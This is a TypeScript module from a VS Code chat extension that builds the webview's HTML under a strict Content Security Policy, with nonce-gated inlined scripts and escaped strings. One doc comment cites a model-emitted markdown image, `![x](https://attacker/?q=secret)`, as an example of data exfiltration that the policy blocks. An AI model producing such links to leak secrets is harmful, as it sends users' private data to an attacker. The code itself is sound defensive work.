import * as fs from 'fs';
import * as vscode from 'vscode';
import { escapeHtml } from '../core/text/escapeHtml';
import { jsonInScript } from '../core/text/jsonInScript';
import type { PageSnapshot } from '../shared/protocol';
import { webviewStrings } from './webviewStrings';

/** 128 random bits from the platform's secure source: a CSP nonce must not be guessable. */
export function nonce(): string {
  return Buffer.from(globalThis.crypto.getRandomValues(new Uint8Array(16))).toString('base64');
}

const scripts = new Map<string, string>();

/**
 * A script of dist/, to be written into the page: a file the page fetched would cost a round
 * trip through the webview's resource path (its service worker, the workbench, the extension
 * host's files) before it could run. The page's first script (boot.js) says `ready` at once, so
 * the state comes while the main script (webview.js) is still being parsed; the main script,
 * fetched, came about 110 ms after `ready` in the opening bench. Read once; a `</script` or
 * `<!--` in it could not end or confuse the tag.
 */
function inlineScript(extensionUri: vscode.Uri, file: 'boot.js' | 'webview.js'): string {
  let text = scripts.get(file);
  if (text === undefined) {
    text = fs
      .readFileSync(vscode.Uri.joinPath(extensionUri, 'dist', file).fsPath, 'utf8')
      .replace(/<\/(script)/gi, '<\\/$1')
      .replace(/<!--/g, '<\\!--');
    scripts.set(file, text);
  }
  return text;
}

let iconFont: string | undefined;

/**
 * The icon font as the stylesheet names it (with its query: a preload is used only for the same
 * URL). Preloaded, it comes with the stylesheet: the page now draws its state as soon as its
 * script has run, before the browser would have asked for the font, and the icons came a moment
 * after the page. Read once.
 */
function iconFontFile(extensionUri: vscode.Uri): string | undefined {
  iconFont ??= /url\(["']?\.\/(codicon\.ttf[^"')]*)/.exec(
    fs.readFileSync(vscode.Uri.joinPath(extensionUri, 'dist', 'webview.css').fsPath, 'utf8'),
  )?.[1];
  return iconFont;
}

/**
 * The chat view's page. The CSP allows only our own scripts (by nonce) and stylesheet, images
 * from our media folder and data: URIs (attached images' thumbnails, images tools returned), a worker only from a blob
 * the page itself makes, and no network at all: a model's
 * `![x](https://attacker/?q=secret)` cannot load. The webview's strings, localized here, ride
 * in `data-strings` (escaped: a translation is text, never markup). `snapshot`, the state the
 * page draws first, rides as JSON data (never run: `application/json`) for boot.ts to read.
 */
export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri, snapshot?: PageSnapshot): string {
  const n = nonce();
  const style = webview.asWebviewUri(vscode.Uri.joinPath(extensionUri, 'dist', 'webview.css'));
  const [fontFile, fontQuery] = iconFontFile(extensionUri)?.split('?') ?? [];
  const fontUri = fontFile && webview.asWebviewUri(vscode.Uri.joinPath(extensionUri, 'dist', fontFile)).with({ query: fontQuery ?? '' });
  // Added by the page (with this nonce) when a code block first needs colour: see webview/highlight.ts.
  const highlighter = webview.asWebviewUri(vscode.Uri.joinPath(extensionUri, 'dist', 'highlightWorker.js'));
  const csp = [
    "default-src 'none'",
    `script-src 'nonce-${n}'`,
    `style-src ${webview.cspSource}`,
    `font-src ${webview.cspSource}`,
    // data: for the thumbnails of images the user attaches and the images tools returned (replies' images are never rendered as <img>).
    `img-src ${webview.cspSource} data:`,
    // The highlighting worker: a blob of our own code, from a script the page adds by nonce (see webview/highlight.ts).
    'worker-src blob:',
    "connect-src 'none'",
    "frame-src 'none'",
    "form-action 'none'",
    "base-uri 'none'",
  ].join('; ');
  return `<!DOCTYPE html>
<html lang="${vscode.env.language}">
<head>
<meta charset="UTF-8">
<meta http-equiv="Content-Security-Policy" content="${csp}">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
${
  snapshot
    ? `<script type="application/json" id="parley-snapshot">${jsonInScript(snapshot)}</script>
`
    : ''
}<script nonce="${n}">${inlineScript(extensionUri, 'boot.js')}</script>
<link href="${style}" rel="stylesheet">
${
  fontUri
    ? `<link href="${escapeHtml(fontUri.toString())}" rel="preload" as="font" type="font/ttf" crossorigin>
`
    : ''
}
<title>Parley</title>
</head>
<body>
<div id="app" data-testid="parley-chat" data-highlighter="${escapeHtml(highlighter.toString())}" data-strings="${escapeHtml(JSON.stringify(webviewStrings()))}"></div>
<script nonce="${n}">${inlineScript(extensionUri, 'webview.js')}</script>
</body>
</html>`;
}
